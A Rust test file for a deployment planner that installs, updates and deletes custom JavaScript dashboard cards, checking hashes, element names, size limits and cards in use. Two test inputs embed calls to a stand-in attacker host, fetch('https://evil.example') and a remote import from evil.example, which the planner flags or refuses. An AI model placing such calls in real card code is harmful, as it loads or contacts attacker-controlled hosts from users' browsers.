//! Custom cards.

use vestibule_protocol::deployment::{CardDelete, CardPut};

use super::*;
use crate::inbound::card;

pub(super) fn put(module: &str, base: Base) -> Item {
    put_as("acme-clock", module, base)
}

fn put_as(element: &str, module: &str, base: Base) -> Item {
    let hash = card::address(module);
    Item::CardPut(CardPut { element: element.into(), module: module.into(), hash, base })
}

fn delete(base: Base) -> Item {
    Item::CardDelete(CardDelete { element: "acme-clock".into(), base })
}

fn address(module: &str) -> Base {
    Base::Hash(card::address(module))
}

fn row(id: &str, url: &str) -> ResourceNow {
    ResourceNow { id: Some(text(id)), module: true, url: text(url) }
}

fn with_clock() -> HomeNow {
    let mut home = home();
    home.resources.push(row("r2", &card::url("acme-clock", CLOCK)));
    home
}

#[test]
fn r39_a_new_card_is_a_row_of_its_own() {
    let plan = planned(&home(), vec![put(CLOCK, Base::None)]).unwrap();
    assert_eq!(plan.steps.len(), 1);
    assert_eq!(plan.steps[0].target, Target::Resource { element: "acme-clock".into(), id: None });
    assert_eq!(card::read(&after(&plan, 0)).unwrap().module, CLOCK);
    assert_eq!(abilities(&plan), [(AbilityKind::InstallsCard, "acme-clock".to_owned())]);
    assert!(!plan.display_only && plan.refused_hosts.is_empty());
}

#[test]
fn r39_a_new_version_updates_the_same_row() {
    let newer = format!("{CLOCK} fetch('https://evil.example')");
    let plan = planned(&with_clock(), vec![put(&newer, address(CLOCK))]).unwrap();
    assert_eq!(plan.steps[0].target, Target::Resource { element: "acme-clock".into(), id: Some(text("r2")) });
    assert!(plan.steps[0].thing.is_some_and(|thing| thing.thing == Thing::Resource));
    assert_eq!(image(&plan.steps[0].before), card::url("acme-clock", CLOCK));
    assert!(abilities(&plan).contains(&(AbilityKind::CardReaches, "the address evil.example".to_owned())));
    for base in [Base::None, address("older")] {
        refused(&with_clock(), put(&newer, base), "base_changed");
    }
    refused(&home(), put(CLOCK, address(CLOCK)), "base_changed");
}

#[test]
fn r39_one_row_for_each_element() {
    let mut twice = with_clock();
    twice.resources.push(row("r3", &card::url("acme-clock", "x")));
    refused(&twice, put(CLOCK, address(CLOCK)), "element_taken");
    let foreign = format!("{} 'button-card'", CLOCK.replace("acme-clock", "button-card"));
    refused(&home(), put_as("button-card", &foreign, Base::None), "element_taken");
}

#[test]
fn r39_cards_that_are_not_what_they_say_are_refused() {
    let Item::CardPut(mut wrong) = put(CLOCK, Base::None) else { panic!("a card") };
    wrong.module.push(' ');
    refused(&home(), Item::CardPut(wrong), "card_hash");
    refused(&home(), put("customElements.define('acme-other', C)", Base::None), "card_undefined");
    refused(
        &home(),
        put(&format!("import 'https://evil.example/x.js'; {CLOCK}"), Base::None),
        "card_imports",
    );
    let yaml = HomeNow { resource_mode: ResourceMode::Yaml, ..home() };
    refused(&yaml, put(CLOCK, Base::None), "resources_in_yaml");
    refused(&yaml, delete(address(CLOCK)), "resources_in_yaml");
}

#[test]
fn r39_all_cards_together_have_a_limit() {
    let large = format!("{CLOCK}//{}", "x".repeat(250 << 10));
    let mut home = home();
    for n in 0..4 {
        home.resources.push(row(&format!("l{n}"), &card::url(&format!("acme-card{n}"), &large)));
    }
    refused(&home, put(&large, Base::None), "cards_too_large");
    assert!(planned(&home, vec![put(CLOCK, Base::None)]).is_ok());
}

#[test]
fn a_dashboard_may_use_what_comes_along() {
    let uses = || dashboards::new("my-clock", r#"{"views":[{"cards":[{"type":"custom:acme-clock"}]}]}"#);
    refused(&home(), uses(), "unknown_card");
    let plan = planned(&home(), vec![put(CLOCK, Base::None), uses()]).unwrap();
    assert_eq!(plan.steps.len(), 3);
    assert!(planned(&with_clock(), vec![uses()]).is_ok());
    refused(&with_clock(), delete(address("other")), "base_changed");
    let both = planned(&with_clock(), vec![delete(address(CLOCK)), uses()]).unwrap_err();
    assert_eq!(both.code, "card_in_use");
}

#[test]
fn a_card_that_is_in_use_stays() {
    let used = r#"{"views":[{"cards":[{"type":"custom:acme-clock"}]}]}"#;
    let mut home = with_clock();
    assert!(planned(&home, vec![delete(address(CLOCK))]).is_ok());
    home.dashboards[1].config = Some(text(used));
    refused(&home, delete(address(CLOCK)), "card_in_use");
    let gone = Item::DashboardDelete(Delete { existing: OTHER, base: base(OTHER, used) });
    let plan = planned(&home, vec![delete(address(CLOCK)), gone]).unwrap();
    assert!(plan.steps.iter().all(|step| step.after == Image::Absent));
}
